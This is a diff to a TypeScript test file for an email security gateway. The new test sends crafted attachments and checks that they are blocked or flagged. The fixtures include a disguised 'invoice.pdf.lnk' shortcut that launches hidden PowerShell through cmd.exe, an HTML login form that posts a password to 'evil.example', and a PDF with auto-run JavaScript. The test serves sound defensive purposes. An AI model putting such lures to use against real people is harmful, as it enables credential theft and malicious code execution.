@@ -8,6 +8,7 @@ import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import nodemailer from 'nodemailer';
 import { EICAR } from '../../src/inspect/engines/signatures.ts';
+import { lnk } from '../helpers/analysis-fixtures.ts';
 import { nestedZip, zip } from '../helpers/archives.ts';
 import { startGateway, startUpstream, type UpstreamPeer } from '../helpers/peers.ts';
 
@@ -91,6 +92,44 @@ describe('deep inspection in the mail path', () => {
       assert.deepEqual(tr.events, ['ARCHIVE_ENCRYPTED']);
     } finally {
       await gw2.stop();
+    }
+  });
+});
+
+describe('local analysis in the mail path', () => {
+  let up: UpstreamPeer;
+  before(async () => {
+    up = await startUpstream();
+  });
+  after(() => up.close());
+
+  it('malicious and phishing verdicts block (541), grayware alerts and is delivered; all logged with reasons', async () => {
+    const gw = await startGateway({ upstreamPort: up.port });
+    const send = async (filename: string, content: Buffer) => {
+      const t = nodemailer.createTransport({ host: '127.0.0.1', port: gw.port, secure: false, ignoreTLS: true });
+      try {
+        await t.sendMail({ from: 'a@example.org', to: 'b@example.com', subject: filename, text: 'see attached', attachments: [{ filename, content }] });
+        return 'delivered';
+      } catch (err) {
+        return String((err as Error).message);
+      } finally {
+        t.close();
+      }
+    };
+    try {
+      const before = up.messages.length;
+      assert.match(await send('invoice.zip', zip([{ name: 'invoice.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c powershell -w hidden') }])), /541 5\.4\.1 Content blocked by smtpwall \(threat: Analysis\.Malicious\.lnk, id: /);
+      assert.match(await send('login.html', Buffer.from('<html><form action="https://evil.example/x"><input type="password" name="p"></form></html>')), /threat: Analysis\.Phishing\.html/);
+      assert.equal(await send('form.pdf', Buffer.from('%PDF-1.7\n<< /OpenAction 2 0 R >> << /S /JavaScript /JS (app.alert(1)) >>\n%%EOF\n')), 'delivered');
+      assert.equal(up.messages.length, before + 1);
+      const logs = gw.logs();
+      const threats = logs.listThreats(10).filter((t) => t.engine === 'analysis');
+      logs.close();
+      assert.deepEqual(threats.map((t) => [t.threat, t.action]), [['Analysis.Malicious.lnk', 'block'], ['Analysis.Phishing.html', 'block'], ['Analysis.Grayware.pdf', 'alert']]);
+      assert.match(threats[0]!.signature, /shortcut runs cmd\.exe with arguments \(\/c\)/);
+      assert.equal(threats[0]!.filePath, 'msg/2/invoice.zip/invoice.pdf.lnk');
+    } finally {
+      await gw.stop();
     }
   });
 });
